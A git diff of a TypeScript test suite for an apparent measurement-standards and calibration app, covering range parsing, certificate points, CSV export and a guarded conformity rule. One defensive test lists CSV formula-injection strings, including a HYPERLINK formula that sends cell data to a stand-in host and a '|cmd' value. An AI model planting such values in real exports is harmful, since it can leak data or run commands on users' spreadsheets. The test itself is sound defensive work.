@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
 import fc from "fast-check";
-import { askOf, definitionOf, formOf, gridOf, refined, wrongOf, zonesOf } from "../src/screens/methods/methods-data";
+import { askOf, definitionOf, formOf, wrongOf } from "../src/screens/methods/methods-data";
 import { placeOf } from "../src/records/office";
 import {
   csvOf,
@@ -16,6 +16,7 @@ import {
   formOf as rangeForm,
   readPoints,
   readRange,
+  cellOf,
   certifyOf,
   withCertificate,
 } from "../src/screens/standards/standards-data";
@@ -46,7 +47,7 @@ test("a range is read with a comma or a point, what does not fit is named", () =
     [{ low: "minus one" }, "low"],
     [{ high: "" }, "high"],
     [{ unit: " " }, "unit"],
-    [{ terms: { ...typed.terms, absolute: "-1" } }, "absolute"],
+    [{ terms: { ...typed.terms, absolute: "little" } }, "absolute"],
     [{ terms: { ...typed.terms, k: "two" } }, "k"],
   ] as const) {
     const read = readRange({ ...typed, ...wrong });
@@ -54,21 +55,38 @@ test("a range is read with a comma or a point, what does not fit is named", () =
   }
 });
 
-test("points of a certificate must be whole and rise; empty lines fall away", () => {
+test("points of a certificate must be whole; empty lines fall away", () => {
   const blank = { applied: "", error: "", expanded: "", k: "2" };
   assert.deepEqual(readPoints([point("0"), blank, { ...point("20", "0,002"), k: "" }]), {
     points: [point("0"), point("20", "0.002")],
+    lines: [0, 2],
   });
   for (const [forms, field] of [
     [[blank], "applied 0"],
-    [[point("0"), point("0")], "applied 1"],
     [[point("0"), { ...point("1"), error: "" }], "error 1"],
-    [[point("0", "0", "0")], "expanded 0"],
-    [[{ ...point("0"), k: "-2" }], "k 0"],
+    [[{ ...point("0"), k: "two" }], "k 0"],
   ] as const) {
     const read = readPoints([...forms]);
     assert.equal("field" in read ? read.field : "", field);
   }
+});
+
+test("what the module refuses of a point is named by its cell", () => {
+  const { unit, mode: _, ...specified } = range;
+  const field = (points: Json[]) => {
+    try {
+      calculate("standard", { unit, ranges: [specified], certificate: { points }, points: ["0"], limit: "1" });
+    } catch (e) {
+      const { field, message } = JSON.parse((e as Error).message);
+      return cellOf(field, message, [0, 2])?.field;
+    }
+    return "";
+  };
+  assert.equal(field([point("0"), point("20")]), "");
+  assert.equal(field([point("0"), point("0")]), "applied 2");
+  assert.equal(field([point("0", "0", "0"), point("1")]), "expanded 0");
+  assert.equal(field([point("0"), { ...point("1"), k: "-2" }]), "k 2");
+  assert.equal(cellOf("unit", "is no unit", [0]), undefined);
 });
 
 test("a newer certificate comes in force, an older one is only kept", () => {
@@ -193,7 +211,18 @@ test("what cannot be calculated is named without the program's own fields", () =
 });
 
 test("no text of a table is a formula to a spreadsheet", () => {
-  const bad = ['=HYPERLINK("http://e/"&A1,"PI-1")', "@SUM(1,2)", "\t=1+1", "\r=1+1", "-1+1", "+1"];
+  const bad = [
+    '=HYPERLINK("http://e/"&A1,"PI-1")',
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "-1+1",
+    "+1",
+    "  =1+1",
+    "|cmd",
+    "%0A",
+    "\uff1d1+1",
+  ];
   const all = bad.map((tag, i) => notCalculated(use(String(i), range, { tag }), ""));
   const lines = csvOf(all).split("\r\n").slice(1, -1);
   assert.equal(lines.length, bad.length);
@@ -271,10 +300,11 @@ test("a method that cannot be read is refused by its field", () => {
   });
 });
 
-test("the rule is asked over a grid and told in stretches", async () => {
-  assert.deepEqual(gridOf(0.1, 0.05), [0, 0.05, 0.1]);
-  assert.deepEqual(askOf(formOf(ready), 4, 0.5), {
-    value: "0.5",
+test("the rule is asked up to a share of the limit and replies in stretches", async () => {
+  const asked = askOf(formOf(ready), 4, 1.6);
+  assert.deepEqual(asked, {
+    value: "0",
+    until: "1.6",
     low: "-1",
     high: "1",
     u: "0.125",
@@ -282,16 +312,14 @@ test("the rule is asked over a grid and told in stretches", async () => {
     rule: "guarded",
     guard_factor: "0.7",
   });
-  const spot = (at: number, verdict: string) => ({ at, verdict, probability: 0 });
-  assert.deepEqual(zonesOf([spot(0, "pass"), spot(0.5, "pass"), spot(1, "fail"), spot(1.5, "fail")]), [
-    { verdict: "pass", from: 0, to: 0.75 },
-    { verdict: "fail", from: 0.75, to: 1.5 },
-  ]);
-  const exact = await refined([spot(0.98, "pass"), spot(1, "pass"), spot(1.02, "fail")], async (at) =>
-    spot(at, at <= 1 ? "pass" : "fail"),
+  const { stretches = [], course } = calculate("conformity", asked);
+  const border = stretches[0]?.to ?? 0;
+  assert.deepEqual(
+    stretches.map((s) => s.verdict),
+    ["pass", "fail"],
   );
-  const border = zonesOf(exact)[0]?.to ?? 0;
-  assert.ok(Math.abs(border - 1) < 2e-5, `the border lies at ${border}`);
+  assert.ok(Math.abs(border - 0.825) < 1e-9, `1 - 0.7 * 0.25, not ${border}`); // worked by hand
+  assert.equal(course?.at(-1)?.value, 1.6);
 });
 
 test("the office's paths to standards and methods", () => {
